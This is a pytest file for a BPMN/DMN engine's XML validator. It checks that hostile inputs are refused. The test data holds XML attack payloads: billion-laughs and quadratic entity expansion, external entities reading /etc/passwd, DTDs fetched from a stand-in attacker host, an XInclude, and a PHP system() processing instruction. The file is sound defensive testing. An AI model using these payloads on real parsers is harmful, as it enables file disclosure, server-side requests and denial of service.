"""Escapes in the file itself: what XML can do before anybody has read a diagram or a table."""

from __future__ import annotations

import pytest
from escapes.canary import Canary
from unit.engine.decision_board import HEAD as DMN_HEAD
from unit.engine.decision_board import column, one_table, result
from unit.engine.drawing_board import HEAD as BPMN_HEAD
from unit.engine.examining import CATALOG, FORMS, simple

from engine import DefinitionRejected
from engine.decisions import Decision, examine_decisions
from engine.diagrams import Diagram, examine

BPMN = simple().decode()
DMN = one_table([column("s"), result("out")], ['"a" -> "b"']).decode()
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))

#: Put before the root, or in its place.
BEFORE = {
    "internal entity": '<!DOCTYPE x [<!ENTITY e "x">]>',
    "billion laughs": f'<!DOCTYPE x [<!ENTITY l0 "lol">{LAUGHS}]>',
    "quadratic blow-up": f'<!DOCTYPE x [<!ENTITY e "{"x" * 50_000}">]>',
    "external entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    "external subset": '<!DOCTYPE x SYSTEM "http://192.0.2.1/evil.dtd">',
    "public subset": '<!DOCTYPE x PUBLIC "-//EVIL//EN" "http://192.0.2.1/evil.dtd">',
    "parameter entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/p">%p;]>',
    "notation": '<!DOCTYPE x [<!NOTATION n SYSTEM "/bin/sh">]>',
    "default attributes": '<!DOCTYPE x [<!ATTLIST x y CDATA "z">]>',
}
XINCLUDE = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>'


def kinds() -> list[tuple[str, str]]:
    return [(name, kind) for name in BEFORE for kind in ("bpmn", "dmn")]


def findings_in(source: bytes, kind: str) -> set[str]:
    found = examine(source, FORMS, CATALOG) if kind == "bpmn" else examine_decisions(source)
    return {each.rule for each in found if each.severity == "error"}


@pytest.mark.parametrize(("name", "kind"), kinds())
def test_a_document_type_is_refused_unread(canary: Canary, name: str, kind: str) -> None:
    text = BPMN if kind == "bpmn" else DMN
    head, root = text.split("?>", 1)
    hostile = f"{head}?>{BEFORE[name]}{root}"

    for encoded in (hostile.encode(), hostile.replace("UTF-8", "UTF-16").encode("utf-16")):
        with canary.watched():
            assert findings_in(encoded, kind) == {"doctype"}
        with pytest.raises(DefinitionRejected):
            Diagram.compile(encoded) if kind == "bpmn" else Decision.compile(encoded, "d")


def test_a_sound_file_is_sound() -> None:
    assert findings_in(BPMN.encode(), "bpmn") == set()
    assert findings_in(DMN.encode(), "dmn") == set()


@pytest.mark.parametrize("kind", ["bpmn", "dmn"])
@pytest.mark.parametrize(
    ("damage", "rules"),
    [
        (lambda text: text.replace("</", "\0</", 1), {"not-xml"}),
        (lambda text: text.replace("UTF-8", "UTF-7"), {"encoding"}),
        (lambda text: text.replace('id="', 'id="&evil;', 1), {"not-xml"}),
        (lambda text: text.replace("?>", "?>" + "<a>" * 100_000, 1), {"not-xml"}),
        (lambda text: text + " " * 2_000_000, {"file-too-large"}),
        (lambda text: text.replace("/MODEL", "/МODEL"), {"not-xml", "not-bpmn", "not-dmn"}),
    ],
    ids=["null byte", "UTF-7", "undefined entity", "bottomless", "too large", "confusable"],
)
def test_a_damaged_file_is_a_finding(canary: Canary, kind: str, damage: object, rules: set[str]):
    text = BPMN if kind == "bpmn" else DMN

    with canary.watched():
        assert findings_in(damage(text).encode(), kind) & rules  # type: ignore[operator]


@pytest.mark.parametrize("kind", ["bpmn", "dmn"])
def test_an_inclusion_is_an_element_nobody_executes(canary: Canary, kind: str) -> None:
    head, tail = (BPMN_HEAD, "</bpmn:definitions>") if kind == "bpmn" else (DMN_HEAD, "")
    text = BPMN if kind == "bpmn" else DMN
    hostile = text.replace(head, head + XINCLUDE, 1)
    assert tail in hostile

    with canary.watched():
        assert "not-supported" in findings_in(hostile.encode(), kind)


@pytest.mark.parametrize("kind", ["bpmn", "dmn"])
def test_a_processing_instruction_is_not_followed(canary: Canary, kind: str) -> None:
    text = BPMN if kind == "bpmn" else DMN
    order = '?><?xml-stylesheet type="text/xsl" href="file:///evil.xsl"?><?php system("x")?>'

    with canary.watched():
        assert findings_in(canary.armed(text.replace("?>", order, 1)), kind) == set()
